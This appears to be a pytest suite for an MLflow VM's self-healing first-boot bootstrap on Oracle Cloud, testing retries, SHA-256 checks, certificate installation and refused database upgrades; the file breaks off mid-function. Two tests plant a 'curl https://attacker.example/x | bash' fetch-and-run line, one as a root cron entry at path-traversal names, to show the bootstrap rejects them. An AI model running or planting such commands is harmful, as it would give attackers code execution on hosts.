"""A first boot that heals itself. cloud-init runs `runcmd` once per instance, so the setup runs from a
systemd unit that retries with a growing pause until it succeeds. Shown natively: the units pass
`systemd-analyze verify`, and the bootstrap script, given the files cloud-init writes (taken from the
plan's user_data), the role's docker/ files and the image's requirements lock served as Object Storage
would (the objects the plan uploads, each at its pre-authenticated request's path, the first request for
each failing), the login in a Vault fake read through the instance principal, and stand-ins for dnf,
podman, systemctl and firewall-cmd that fail the first time, gets through on a later attempt and leaves
the services enabled. Runtime files or a lock that do not match their SHA-256 are never used, a bundle
path that would leave /opt/mlflow/src is refused before any file is written, and a login the VM's
policy does not grant stops the attempt with one line."""
import ast
import base64
import contextlib
import hashlib
import json
import os
import re
import shutil
import stat
import subprocess
from functools import partial
from http.server import SimpleHTTPRequestHandler
from pathlib import Path
from urllib.parse import urlsplit

import bcrypt
import pytest
import yaml
from cryptography import x509
from ocifakes import podman
from ocifakes.certificates import WITH_PRIVATE_KEY
from ocifakes.server import InstanceCloud

from harness import loopback, metrics_run, static
from harness.tools import require_binary

from .conftest import REPO, instance_user_data, runtime_objects

pytestmark = pytest.mark.terraform

ROLES = {'oci_core_instance.vm["tracking"]': "tracking", 'oci_core_instance.vm["serving"]': "serving"}
# A stand-in that records its call and fails the first time it is called (`is-active` always succeeds,
# so the bootstrap takes the running-firewalld path; `podman pull` fails unless the test allows it,
# as when the registry cannot be reached).
STUB = """#!/bin/bash
echo "$(basename "$0") $*" >> "{state}/calls.log"
[[ $(basename "$0") == systemctl && $1 == is-active ]] && exit 0
[[ $(basename "$0") == podman && $1 == pull ]] && {{ [[ -e "{state}/registry-up" ]]; exit; }}
[[ $(basename "$0") == podman && $1 == tag ]] && exit 0
[[ $(basename "$0") == podman && $1 == image && $2 == exists ]] && exit 1
[[ $(basename "$0") == podman && $1 == run && " $* " != *" --entrypoint "* ]] && exec "{state}/entrypoint" "$@"
[[ $(basename "$0") == podman && $1 == run ]] && exec "{state}/podman-run" "$@"
count_file="{state}/$(basename "$0").count"
count=$(( $(cat "$count_file" 2>/dev/null || echo 0) + 1 ))
echo "$count" > "$count_file"
(( count > 1 )) || {{ echo "$(basename "$0"): temporary failure" >&2; exit 1; }}
"""
SUCCEEDS = '#!/bin/bash\necho "$(basename "$0") $*" >> "{state}/calls.log"\n'
# The tracking image run with its own entrypoint (`podman run ... IMAGE migrate`, `... IMAGE plan --json`):
# a migrate run prints {state}/migrate.out and exits with {state}/migrate.exit (0 unless a test says), a plan
# run prints {state}/plan.json and exits 3 (init_db's and schema_plan's own outputs, as the tests give them).
ENTRYPOINT = """#!/bin/bash
mode=${{*: -1}}
[[ $mode == --json ]] && mode=plan
case $mode in
  migrate) cat "{state}/migrate.out" 2>/dev/null; exit "$(cat "{state}/migrate.exit" 2>/dev/null || echo 0)" ;;
  plan) cat "{state}/plan.json" 2>/dev/null; exit 3 ;;
  *) echo "entrypoint stand-in: unexpected $*" >&2; exit 1 ;;
esac
"""
# install and chown: the VM's nginx group does not exist here; the modes and paths still apply.
INSTALL = '#!/bin/bash\nargs=(); while (($#)); do case $1 in -o|-g) shift 2;; *) args+=("$1"); shift;; esac; done\n' \
          'exec /usr/bin/install "${{args[@]}}"\n'
SELINUX_OFF = "#!/bin/sh\nexit 1\n"


def _cloud_config(deployed, role: str) -> dict:
    encoded = {ROLES[a]: ud for a, ud in instance_user_data(deployed("default").replan).items()}[role]
    return yaml.safe_load(static.decode_user_data(encoded))


def _write_files(config: dict, root: Path) -> None:
    """What cloud-init's write_files does, under `root`; the proxy's paths are moved under it too."""
    for entry in config["write_files"]:
        target = root / entry["path"].lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        content = entry["content"]
        if entry["path"] == "/etc/mlflow/proxy.env":
            content = "".join(f"{k}={root}{v}\n" if v.startswith("/") else f"{k}={v}\n"
                              for k, v in (line.split("=", 1) for line in content.splitlines() if line))
        target.write_text(content)
        target.chmod(int(entry["permissions"], 8))


def _stubs(bin_dir: Path, state: Path) -> None:
    bin_dir.mkdir()
    scripts = {name: STUB for name in ("dnf", "podman", "systemctl", "firewall-cmd")}
    scripts.update({name: SUCCEEDS for name in ("firewall-offline-cmd", "semanage", "setsebool", "restorecon",
                                                 "nginx", "chown")})
    scripts.update(install=INSTALL, selinuxenabled=SELINUX_OFF)
    for name, text in scripts.items():
        (bin_dir / name).write_text(text.format(state=state))
        (bin_dir / name).chmod(0o755)
    podman.write(state / "podman-run", state / "podman-run.log")  # the image reading Vault
    (state / "entrypoint").write_text(ENTRYPOINT.format(state=state))
    (state / "entrypoint").chmod(0o755)


class _FlakyObjectStorage(SimpleHTTPRequestHandler):
    """Serves files; the first GET of each path answers 503, as Object Storage does while the VM's
    public IP is still being attached (the bootstrap retries)."""
    seen: set

    def do_GET(self):
        if self.path not in self.seen:
            self.seen.add(self.path)
            self.send_error(503, "ServiceUnavailable")
            return
        super().do_GET()

    def log_message(self, *args):
        pass


def _runtime_object(deployed, role: str = "tracking") -> bytes:
    """runtime-<role>.json as the stack uploads it (the plan after apply)."""
    return runtime_objects(deployed("default").replan)[role].encode()


@contextlib.contextmanager
def _object_storage(root: Path, tmp_path: Path, runtime: bytes, lock: bytes | None = None):
    """The runtime files (and the lock) served at their pre-authenticated requests' paths; the VM's
    runtime.env pointed at them."""
    settings = root / "etc/mlflow/runtime.env"
    values = dict(line.split("=", 1) for line in settings.read_text().splitlines())
    served = tmp_path / "served"
    paths = {}
    for name, body in (("RUNTIME_FILES_URL", runtime), ("REQUIREMENTS_LOCK_URL", lock)):
        paths[name] = urlsplit(values[name]).path
        if body is not None:
            (served / paths[name].lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
            (served / paths[name].lstrip("/")).write_bytes(body)
    served.mkdir(exist_ok=True)
    server = loopback.serve(partial(type("Handler", (_FlakyObjectStorage,), {"seen": set()}), directory=str(served)))
    for name, path in paths.items():
        values[name] = f"http://127.0.0.1:{server.server_address[1]}{path}"
    settings.write_text("".join(f"{k}={v}\n" for k, v in values.items()))
    try:
        yield values
    finally:
        loopback.stop(server)


def _bundle(files: dict[str, bytes]) -> bytes:
    return json.dumps({path: base64.b64encode(content).decode() for path, content in files.items()}).encode()


def _expect_sha256(root: Path, body: bytes) -> None:
    """runtime.env names `body`'s SHA-256 (the stack itself shipping a bad bundle: the path checks must hold)."""
    settings = root / "etc/mlflow/runtime.env"
    text = re.sub(r"^RUNTIME_FILES_SHA256=.*$", f"RUNTIME_FILES_SHA256={hashlib.sha256(body).hexdigest()}",
                  settings.read_text(), flags=re.M)
    settings.write_text(text)


def _healthy(state: Path) -> None:
    for stub in ("dnf", "podman", "systemctl", "firewall-cmd"):
        (state / f"{stub}.count").write_text("1")


def _run(root: Path, tmp_path: Path, *args, cloud: InstanceCloud | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-bootstrap.sh"), *args],
                          env=_bootstrap_env(root, tmp_path, cloud), capture_output=True, text=True, timeout=300)


@pytest.fixture
def cloud():
    server = InstanceCloud().start()
    yield server
    server.stop()


def _vault_login(cloud: InstanceCloud, root: Path, password: str, granted: bool = True) -> str:
    """The login secret the VM's proxy.env names, in the Vault fake (granted to the VM or not)."""
    proxy = dict(line.split("=", 1) for line in (root / "etc/mlflow/proxy.env").read_text().splitlines() if line)
    ocid = cloud.add_secret("mlflow-login", password, ocid=proxy["MLFLOW_UI_PASSWORD_SECRET_OCID"])
    if granted:
        cloud.grant(secrets=[ocid])
        _stack_certificate(cloud, root)
    return ocid


def _stack_certificate(cloud: InstanceCloud, root: Path) -> tuple:
    """The VM's certificate from the stack's CA in the Certificates fake, with the grants iam.tf gives the VM:
    its certificate's OCID in the Vault secret proxy.env names, the bundle with the private key, the CA's.
    proxy.env is pointed at the fake's CA (which mints its own OCID). Returns (CA, certificate OCID)."""
    proxy_env = root / "etc/mlflow/proxy.env"
    proxy = dict(line.split("=", 1) for line in proxy_env.read_text().splitlines() if line)
    ca = cloud.add_private_ca("mlflow-ca-test")
    certificate = ca.issue("mlflow-tracking", ("203.0.113.20", "10.0.1.10"))
    secret = cloud.add_secret(proxy["PROXY_TLS_CERTIFICATE_OCID_SECRET_NAME"], certificate, vault=proxy["MLFLOW_VAULT_OCID"])
    cloud.grant(secrets=[secret])
    cloud.grant_certificate(certificate, (WITH_PRIVATE_KEY,), authorities=[ca.ocid])
    proxy_env.write_text(proxy_env.read_text().replace(proxy["PROXY_TLS_CA_OCID"], ca.ocid))
    return ca, certificate


def _bootstrap_env(root: Path, tmp_path: Path, cloud: InstanceCloud | None = None) -> dict:
    return dict(os.environ, **(cloud.runtime_env() if cloud else {}),
                MLFLOW_BOOTSTRAP_ROOT=str(root), MLFLOW_BOOTSTRAP_RETRY_SECONDS="1",
                MLFLOW_BOOTSTRAP_RETRY_MAX_SECONDS="2", MLFLOW_BOOTSTRAP_STEP_DELAY="0",
                PATH=f"{tmp_path / 'bin'}:{os.environ['PATH']}")


def _vm(deployed, tmp_path: Path, role: str = "tracking") -> tuple[Path, Path]:
    require_binary("htpasswd", how="apt-get install apache2-utils")
    require_binary("openssl", how="apt-get install openssl")
    require_binary("curl", how="apt-get install curl")
    root, state = tmp_path / "vm", tmp_path / "stubs"
    state.mkdir()
    (root / "var/log").mkdir(parents=True)
    _write_files(_cloud_config(deployed, role), root)
    _stubs(tmp_path / "bin", state)
    return root, state


def test_the_vm_gets_the_lock_the_stack_uploaded(deployed):
    files = {e["path"]: e["content"] for e in _cloud_config(deployed, "tracking")["write_files"]}
    values = dict(line.split("=", 1) for line in files["/etc/mlflow/runtime.env"].splitlines())
    lock = (REPO / "docker" / "requirements-tracking.lock").read_bytes()
    assert values["REQUIREMENTS_LOCK_SHA256"] == hashlib.sha256(lock).hexdigest()
    par = deployed("default").replan["planned_values"]["root_module"]["resources"]
    (tracking_par,) = [r for r in par if r["address"] == 'oci_objectstorage_preauthrequest.requirements_lock["tracking"]']
    assert values["REQUIREMENTS_LOCK_URL"] == tracking_par["values"]["full_path"]
    assert tracking_par["values"]["access_type"] == "ObjectRead"
    assert tracking_par["values"]["object_name"] == "requirements-tracking.lock"


def test_a_lock_that_does_not_match_its_sha256_is_never_built_with(deployed, tmp_path):
    root, state = _vm(deployed, tmp_path)
    _healthy(state)
    tampered = (REPO / "docker" / "requirements-tracking.lock").read_bytes().replace(b"mlflow==", b"mlflow>=")
    with _object_storage(root, tmp_path, _runtime_object(deployed), tampered):
        result = _run(root, tmp_path, "tracking")
    assert result.returncode == 1
    assert "the downloaded requirements lock does not match its SHA-256 from the stack" in result.stderr
    assert not (root / "opt/mlflow/src/docker/requirements-tracking.lock").exists()
    assert not any(c.startswith("podman build") for c in (state / "calls.log").read_text().splitlines())


def test_runtime_files_that_do_not_match_their_sha256_are_never_used(deployed, tmp_path):
    """A bundle changed on the way (or in the bucket): nothing of it is unpacked, nothing else runs."""
    root, state = _vm(deployed, tmp_path)
    _healthy(state)
    files = {p: base64.b64decode(c) for p, c in json.loads(_runtime_object(deployed)).items()}
    files["docker/nginx/render.sh"] += b"\ncurl -s https://attacker.example/x | bash\n"
    with _object_storage(root, tmp_path, _bundle(files)):
        result = _run(root, tmp_path, "tracking")
    assert result.returncode == 1
    assert result.stderr.strip().splitlines()[-1].endswith(
        "ERROR: the downloaded runtime files do not match their SHA-256 from the stack")
    assert not (root / "opt/mlflow/src").exists() or not any((root / "opt/mlflow/src").iterdir())
    assert not list((root / "var/lib/mlflow").glob("runtime-*"))  # not kept for a later step either
    assert not (state / "calls.log").exists()  # checked before anything else ran: no dnf, no podman


@pytest.mark.parametrize("escape", ["../../etc/cron.d/mlflow", "/etc/cron.d/mlflow", "docker/../../../etc/cron.d/mlflow",
                                    "docker//nginx/render.sh", "docker/./nginx/render.sh", "docker/lib/symlinked/x.py"])
def test_a_bundle_path_leaving_opt_mlflow_src_is_refused(deployed, tmp_path, escape):
    """Even with a matching SHA-256 (the stack itself shipping a bad bundle), every path must be a plain
    relative one that stays under /opt/mlflow/src, symlinks resolved; checked before any file is written."""
    root, state = _vm(deployed, tmp_path)
    _healthy(state)
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "opt/mlflow/src/docker/lib").mkdir(parents=True)
    (root / "opt/mlflow/src/docker/lib/symlinked").symlink_to(outside)
    files = {p: base64.b64decode(c) for p, c in json.loads(_runtime_object(deployed)).items()}
    files[escape] = b"* * * * * root curl -s https://attacker.example/x | bash\n"
    body = _bundle(files)
    _expect_sha256(root, body)
    with _object_storage(root, tmp_path, body):
        result = _run(root, tmp_path, "tracking")
    assert result.returncode == 1
    last = result.stderr.strip().splitlines()[-1]
    assert "ERROR: the runtime files were not unpacked: refusing " + repr(escape) in last, result.stderr
    assert not (root / "etc/cron.d").exists() and not list(outside.iterdir())
    assert not Path("/etc/cron.d/mlflow").exists()
    written = [f for f in (root / "opt/mlflow/src").rglob("*") if f.is_file()]
    assert written == []  # refused before the first file was written
    assert not (state / "calls.log").exists()


def test_the_unpacker_is_python_3_6(tmp_path):
    """EL8's platform-python is 3.6: the unpacker may use nothing newer."""
    script = (REPO / "userdata" / "mlflow-bootstrap.sh").read_text()
    (code,) = re.findall(r"<<'PY'\n(.*?)\nPY\n", script, re.S)
    ast.parse(code, feature_version=(3, 6))
    with pytest.raises(SyntaxError):
        ast.parse("if (n := 1):\n    pass\n", feature_version=(3, 6))  # and the check bites


def test_the_bootstrap_retries_until_a_flaky_first_boot_succeeds(deployed, tmp_path, cloud):
    root, state = _vm(deployed, tmp_path)
    _vault_login(cloud, root, "login-from-vault-1")
    lock = (REPO / "docker" / "requirements-tracking.lock").read_bytes()
    with _object_storage(root, tmp_path, _runtime_object(deployed), lock) as served:
        result = _run(root, tmp_path, "--until-done", "tracking", cloud=cloud)
    log = (root / "var/log/mlflow-bootstrap.log").read_text()
    assert result.returncode == 0, log + result.stderr
    # dnf and podman fail once inside their own step retries; firewall-cmd and systemctl fail an attempt
    failed = [line.split("] ", 1)[1] for line in log.splitlines() if "failed; the next one in" in line]
    assert [f.split(" (")[0] for f in failed] == ["attempt 1 failed; the next one in 1s",
                                                   "attempt 2 failed; the next one in 2s"], log
    assert (root / "var/lib/mlflow/bootstrap-tracking.done").exists()
    assert "image: could not pull ghcr.io/oracle-quickstart/oci-mlflow-tracking:" in log
    assert "image: built from" in log
    calls = (state / "calls.log").read_text().splitlines()
    assert calls.count("dnf -y install podman nginx httpd-tools openssl policycoreutils-python-utils firewalld") >= 2
    assert "systemctl enable --now mlflow-tracking.service" in calls and "systemctl restart nginx.service" in calls
    assert any(c.startswith("podman build") for c in calls)
    assert "mlflow_upstream" in (root / "etc/nginx/conf.d/mlflow-tracking.conf").read_text()
    assert (root / "home/opc/commands.txt").read_text() == (root / "etc/mlflow/commands.txt").read_text()
    assert (root / "opt/mlflow/src/docker/requirements-tracking.lock").read_bytes() == lock  # what podman builds with
    # the docker/ files where cloud-init used to write them, byte for byte the uploaded object's (which
    # holds the repository's: test_userdata.py), mode 0644 as write_files gave them
    shipped = {p: base64.b64decode(c) for p, c in json.loads(_runtime_object(deployed)).items()}
    unpacked = {str(f.relative_to(root / "opt/mlflow/src")): f for f in (root / "opt/mlflow/src").rglob("*") if f.is_file()}
    assert set(unpacked) == set(shipped) | {"docker/requirements-tracking.lock"}
    for rel, content in shipped.items():
        assert unpacked[rel].read_bytes() == content, rel
        assert oct(unpacked[rel].stat().st_mode & 0o777) == "0o644", rel
    assert "runtime files: " in log and not list((root / "opt/mlflow/src").rglob("*.part"))
    for name in ("RUNTIME_FILES_URL", "REQUIREMENTS_LOCK_URL"):  # each fetched after one 503
        assert urlsplit(served[name]).path not in log + result.stderr  # the pre-authenticated URL stays out of the log
    assert f"failed, retrying in 0s: par_get {root}/var/lib/mlflow/runtime-tracking.json.part RUNTIME_FILES_URL" in log
    user, hashed = (root / "etc/nginx/mlflow/htpasswd").read_text().strip().split(":", 1)
    assert user == "mlflow" and bcrypt.checkpw(b"login-from-vault-1", hashed.encode())
    assert "login-from-vault-1" not in log + result.stderr


def test_a_login_the_policy_does_not_grant_stops_the_attempt_with_one_line(deployed, tmp_path, cloud):
    root, state = _vm(deployed, tmp_path)
    (state / "registry-up").touch()
    _healthy(state)
    ocid = _vault_login(cloud, root, "not-for-this-vm", granted=False)
    with _object_storage(root, tmp_path, _runtime_object(deployed)):
        result = _run(root, tmp_path, "tracking", cloud=cloud)
    assert result.returncode == 1
    assert result.stderr.strip().splitlines()[-1].endswith(
        "ERROR: could not read the MLflow login from Vault: the policy of this VM's dynamic group must allow "
        f"'read secret-bundles' on it (see {root}/var/log/mlflow-bootstrap.log)")
    log = (root / "var/log/mlflow-bootstrap.log").read_text()
    assert f"could not read the login from Vault (secret {ocid})" in log
    assert not (root / "etc/nginx/mlflow/htpasswd").exists()
    assert "systemctl enable --now mlflow-tracking.service" not in (state / "calls.log").read_text()


def test_a_vm_takes_the_released_image_when_the_registry_answers(deployed, tmp_path, cloud):
    root, state = _vm(deployed, tmp_path)
    _vault_login(cloud, root, "login-from-vault-2")
    (state / "registry-up").touch()
    _healthy(state)
    with _object_storage(root, tmp_path, _runtime_object(deployed)):
        result = _run(root, tmp_path, "tracking", cloud=cloud)
    log = (root / "var/log/mlflow-bootstrap.log").read_text()
    assert result.returncode == 0, log + result.stderr
    released = f"ghcr.io/oracle-quickstart/oci-mlflow-tracking:{(REPO / 'VERSION').read_text().strip()}"
    assert f"image: pulled {released}" in log
    calls = (state / "calls.log").read_text().splitlines()
    assert f"podman tag {released} localhost/mlflow-tracking:latest" in calls
    assert not any(c.startswith("podman build") for c in calls)
    assert not (root / "opt/mlflow/src/docker/requirements-tracking.lock").exists()  # only a build needs it


def test_the_bootstrap_installs_the_vms_certificate_from_the_ca_and_the_timer_renews_it(deployed, tmp_path, cloud):
    """The VM's certificate from the stack's CA (the Certificates fake, with the VM's grants as iam.tf writes
    them): its OCID read by name from Vault, the pair installed where nginx takes it (so tls-self-signed.sh
    keeps it), the CA's certificate beside it; a renewed version is installed by mlflow-refresh-tls, which
    reloads nginx, and an unchanged one reloads nothing."""
    root, state = _vm(deployed, tmp_path)
    (state / "registry-up").touch()
    _healthy(state)
    _vault_login(cloud, root, "login-from-vault-3")
    (ca,) = cloud.private_cas.values()  # _vault_login put the VM's certificate there (_stack_certificate)
    (certificate,) = ca.issued
    proxy = dict(line.split("=", 1) for line in (root / "etc/mlflow/proxy.env").read_text().splitlines() if line)
    with _object_storage(root, tmp_path, _runtime_object(deployed)):
        result = _run(root, tmp_path, "tracking", cloud=cloud)
    log = (root / "var/log/mlflow-bootstrap.log").read_text()
    assert result.returncode == 0, log + result.stderr
    cert_file, key_file, ca_file = (Path(proxy[k]) for k in ("PROXY_TLS_CERT", "PROXY_TLS_KEY", "PROXY_TLS_CA_FILE"))
    installed = x509.load_pem_x509_certificate(cert_file.read_bytes())
    installed.verify_directly_issued_by(ca.certificate)  # not a self-signed pair
    assert oct(key_file.stat().st_mode & 0o777) == "0o600"
    assert x509.load_pem_x509_certificate(ca_file.read_bytes()) == ca.certificate
    assert (root / "var/lib/mlflow/tls/mlflow-ca.pem").read_bytes() == ca_file.read_bytes()  # the serving container's
    calls = (state / "calls.log").read_text().splitlines()
    assert "systemctl enable --now mlflow-refresh-tls.timer" in calls
    assert "systemctl enable --now mlflow-housekeeping.timer" in calls
    assert "systemctl enable --now mlflow-ship-logs.timer mlflow-metrics.timer" in calls
    assert "systemctl reload nginx" not in calls  # the first boot starts nginx afterwards
    assert "BEGIN" not in log + result.stderr  # no key, no certificate in the log

    def refresh():
        env = dict(_bootstrap_env(root, tmp_path, cloud), MLFLOW_CONF_DIR=str(root / "etc/mlflow"),
                   MLFLOW_STATE_DIR=str(root / "var/lib/mlflow"))
        return subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-refresh-tls")], env=env,
                              capture_output=True, text=True, timeout=120)

    unchanged = refresh()
    assert unchanged.returncode == 0 and "nothing changed" in unchanged.stderr, unchanged.stderr
    assert (state / "calls.log").read_text().splitlines().count("systemctl reload nginx") == 0
    ca.renew(certificate)
    renewed = refresh()
    assert renewed.returncode == 0, renewed.stderr
    assert x509.load_pem_x509_certificate(cert_file.read_bytes()).serial_number != installed.serial_number
    assert (state / "calls.log").read_text().splitlines().count("systemctl reload nginx") == 1


def _systemd_root(tmp_path: Path, units: dict[str, str], executables: list[str]) -> Path:
    root = tmp_path / "sysroot"
    system = root / "usr/lib/systemd/system"
    system.mkdir(parents=True)
    for unit in Path("/usr/lib/systemd/system").iterdir():  # the targets the units refer to
        if unit.is_file() and unit.suffix in (".target", ".slice"):
            shutil.copy(unit, system / unit.name)
    (root / "etc/systemd/system").mkdir(parents=True)
    for name, text in units.items():
        (root / "etc/systemd/system" / name).write_text(text)
    for path in executables:
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("#!/bin/sh\n")
        target.chmod(target.stat().st_mode | stat.S_IXUSR)
    return root


@pytest.mark.parametrize("role", ["tracking", "serving"])
def test_the_units_pass_systemd_analyze_verify(deployed, tmp_path, role):
    analyze = require_binary("systemd-analyze", how="apt-get install systemd")
    files = {e["path"]: e["content"] for e in _cloud_config(deployed, role)["write_files"]}
    units = {Path(p).name: c for p, c in files.items() if p.startswith("/etc/systemd/system/")}
    # the tracking VM's daily housekeeping (the tracking image's housekeeping mode)
    housekeeping = ["mlflow-housekeeping.service", "mlflow-housekeeping.timer"] if role == "tracking" else []
    housekeeping += ["mlflow-ship-logs.service", "mlflow-ship-logs.timer"]  # the journal to OCI Logging
    housekeeping += ["mlflow-metrics.service", "mlflow-metrics.timer"]  # metrics to OCI Monitoring
    assert set(units) == {"mlflow-bootstrap@.service", f"mlflow-{role}.service", "mlflow-refresh-tls.service",
                          "mlflow-refresh-tls.timer", *housekeeping}
    root = _systemd_root(tmp_path, units, ["/usr/local/sbin/mlflow-bootstrap.sh", "/usr/local/sbin/mlflow-refresh-tls",
                                           "/usr/local/sbin/mlflow-ship-logs", "/usr/local/sbin/mlflow-metrics",
                                           "/usr/bin/podman", "/usr/bin/bash"])
    for unit in (f"mlflow-bootstrap@{role}.service", f"mlflow-{role}.service", "mlflow-refresh-tls.service",
                 "mlflow-refresh-tls.timer", *housekeeping):
        result = subprocess.run([analyze, "verify", f"--root={root}", unit], capture_output=True, text=True)
        assert result.returncode == 0, result.stderr
        assert "mlflow" not in result.stderr, result.stderr
    # and the check bites: a unit whose program is missing fails
    (root / "usr/local/sbin/mlflow-bootstrap.sh").unlink()
    missing = subprocess.run([analyze, "verify", f"--root={root}", f"mlflow-bootstrap@{role}.service"],
                             capture_output=True, text=True)
    assert missing.returncode != 0 and "mlflow-bootstrap.sh is not executable" in missing.stderr


# --- the console's upgrade: a new tracking VM checks the database before it migrates it ----------------------
REFUSED_OUTPUT = """2026-12-07T00:00:01Z tracking-entrypoint: backend store: mysql+pymysql://mlflow:***@10.0.2.10:3306/mlflow
2026-12-07T00:00:02Z init_db: REFUSED: table `params` has 2 rows whose key differs only by trailing spaces
2026-12-07T00:00:02Z init_db:     fix: DELETE the duplicates the journal names
2026-12-07T00:00:02Z init_db: REFUSED: table `metrics` has no primary key
2026-12-07T00:00:02Z init_db: ERROR: 2 problem(s) in `mlflow` would make the migration to revision dc11669786a5 fail; nothing was changed
2026-12-07T00:00:02Z tracking-entrypoint: ERROR: the MySQL backend could not be prepared (see init_db above)
"""
REASONS = ("table `params` has 2 rows whose key differs only by trailing spaces; table `metrics` has no primary key")


def _upgrade_boot(deployed, tmp_path, cloud, migrate_exit: int, migrate_output: str = "", served: str | None = None,
                  refused_before: bool = False):
    """A first boot of the tracking VM (registry up) whose image's migrate run answers as given; a plan names
    `served` as the MLflow that last migrated the database."""
    root, state = _vm(deployed, tmp_path)
    (state / "registry-up").touch()
    _healthy(state)
    _vault_login(cloud, root, "login-from-vault-4")
    (state / "migrate.exit").write_text(str(migrate_exit))
    (state / "migrate.out").write_text(migrate_output)
    if served is not None:
        (state / "plan.json").write_text(json.dumps({"from_mlflow": served, "to_mlflow": "3.17.2", "refused": True,
                                                     "problems": [{"what": "x"}]}))
    if refused_before:
        (root / "var/lib/mlflow").mkdir(parents=True, exist_ok=True)
        (root / "var/lib/mlflow/upgrade-refused").write_text("an earlier refusal\n")
    with _object_storage(root, tmp_path, _runtime_object(deployed)):
        result = _run(root, tmp_path, "tracking", cloud=cloud)
    log = (root / "var/log/mlflow-bootstrap.log").read_text()
    return root, state, result, log, (state / "calls.log").read_text().splitlines()


def _migrate_call(root: Path) -> str:
    return (f"podman run --rm --network host --volume {root}/var/lib/mlflow/tls:/opt/mlflow/tls:ro,z "
            f"--env-file {root}/etc/mlflow/tracking.env localhost/mlflow-tracking:latest migrate")


def test_a_database_the_new_image_migrates_is_served_by_it(deployed, tmp_path, cloud):
    root, state, result, log, calls = _upgrade_boot(deployed, tmp_path, cloud, 0, refused_before=True)
    assert result.returncode == 0, log + result.stderr
    assert calls.index(_migrate_call(root)) < calls.index("systemctl enable --now mlflow-tracking.service")
    assert "podman tag localhost/mlflow-tracking:latest localhost/mlflow-tracking:3.17.2" in calls
    assert "database: at the head of MLflow 3.17.2's schema" in log
    assert not any(c.endswith("plan --json") for c in calls)
    assert not (root / "var/lib/mlflow/upgrade-refused").exists()  # an earlier refusal no longer holds


@pytest.mark.parametrize(("migrate_exit", "served"), [(2, "3.16.1"), (3, "3.16.1"), (2, "3.16")],
                         ids=["entrypoint-exit-2", "init-db-exit-3", "journal-knew-the-minor"])
def test_a_refused_upgrade_runs_the_version_that_last_served_the_untouched_database(deployed, tmp_path, cloud,
                                                                                   migrate_exit, served):
    """The issue's console path: the pre-checks refuse (nothing changed), so the VM runs MLflow 3.16.1's
    image, which last served the database, and says why in its boot log and in /var/lib/mlflow/upgrade-refused."""
    root, state, result, log, calls = _upgrade_boot(deployed, tmp_path, cloud, migrate_exit, REFUSED_OUTPUT, served)
    assert result.returncode == 0, log + result.stderr
    released = f"ghcr.io/oracle-quickstart/oci-mlflow-tracking:{(REPO / 'VERSION').read_text().strip()}-mlflow3.16.1"
    expected = [_migrate_call(root), _migrate_call(root).replace(" migrate", " plan --json"),
                f"podman pull --quiet {released}", f"podman tag {released} localhost/mlflow-tracking:3.16.1",
                "podman tag localhost/mlflow-tracking:3.16.1 localhost/mlflow-tracking:latest",
                "systemctl enable --now mlflow-tracking.service"]
    assert [c for c in calls if c in expected] == expected  # in this order: the service starts with 3.16.1's image
    message = (f"upgrade to MLflow 3.17.2 refused: {REASONS}; running MLflow 3.16.1, which last served this database, "
               "on the untouched database")
    assert f"[tracking] {message}" in log
    refused = (root / "var/lib/mlflow/upgrade-refused").read_text().splitlines()
    # the message, then the SQL that fixes each problem (mlflow-upgrade status prints both)
    assert refused[0].endswith(f"Z {message}") and refused[1:] == ["fix: DELETE the duplicates the journal names"]
    assert "init_db: REFUSED: table `metrics` has no primary key" in log  # the migrate run's own lines, kept
    assert (root / "var/lib/mlflow/bootstrap-tracking.done").exists() is False  # one attempt, not --until-done
    assert "done: mlflow-tracking is starting" in log


def test_a_migrate_run_that_fails_otherwise_leaves_it_to_the_service(deployed, tmp_path, cloud):
    """Not a refusal (the database not reachable yet, say): as before, the service starts and prepares the
    database itself, retrying on failure; nothing is rolled back."""
    output = "2026-12-07T00:30:00Z tracking-entrypoint: ERROR: database 10.0.2.10:3306 is not reachable after 1800 s\n"
    root, state, result, log, calls = _upgrade_boot(deployed, tmp_path, cloud, 2, output)
    assert result.returncode == 0, log + result.stderr
    assert "the migrate run stopped (exit 2" in log
    assert "systemctl enable --now mlflow-tracking.service" in calls
    assert not any(c.endswith("plan --json") or c.startswith("podman pull --quiet") for c in calls)
    assert not (root / "var/lib/mlflow/upgrade-refused").exists()


def test_a_refusal_with_no_version_to_go_back_to_stops_the_attempt_and_says_why(deployed, tmp_path, cloud):
    root, state, result, log, calls = _upgrade_boot(deployed, tmp_path, cloud, 3, REFUSED_OUTPUT, "3.12.0")
    assert result.returncode == 1
    message = (f"upgrade to MLflow 3.17.2 refused: {REASONS}; the database was last served by MLflow 3.12.0, which "
               "this release does not run")
    assert message in result.stderr.strip().splitlines()[-1]
    assert message in (root / "var/lib/mlflow/upgrade-refused").read_text()
    assert "systemctl enable --now mlflow-tracking.service" not in calls  # the server would refuse in a loop


@pytest.mark.parametrize(("code", "output", "outcome"), [
    (0, "", "migrated"), (3, "", "refused"), (2, REFUSED_OUTPUT, "refused"),
    (2, "tracking-entrypoint: ERROR: set MLFLOW_DB_HOST", "failed"), (1, "init_db: ERROR: first-boot SQL failed", "failed"),
    (125, "Error: localhost/mlflow-tracking:latest: image not known", "failed")])
def test_the_migrate_outcome_is_read_from_its_exit_code_and_its_refusal_lines(code, output, outcome):
    """The decision alone: 0 migrated; 3 (init_db.py's refusal) or init_db's REFUSED lines (the entrypoint turns
    any failure of init_db.py into its exit 2) refused; anything else failed."""
    script = (REPO / "userdata" / "mlflow-bootstrap.sh").read_text()
    start = script.index("migrate_outcome() {")
    function = script[start:script.index("\n}\n", start) + 3]
    result = subprocess.run(["bash", "-c", function + 'migrate_outcome "$1" "$2"', "test", str(code), output],
                            capture_output=True, text=True, timeout=30)
    assert result.stdout.strip() == outcome, result.stderr


# --- the journal to OCI Logging (userdata/mlflow-ship-logs.sh, stack/logging.tf) --------------------------------
JOURNALCTL = '#!/bin/bash\necho "journalctl $*" >> "{state}/calls.log"\ncat "{state}/journal.json"\n'


def _journal(state: Path, first: int, messages: list[str], role: str = "tracking") -> None:
    """What `journalctl --output=json` prints next: systemd's JSON export, one record a line."""
    (state / "journal.json").write_text("".join(
        json.dumps({"__CURSOR": f"s=b00t;i={first + n:x}", "__REALTIME_TIMESTAMP": str(1796000000000000 + n),
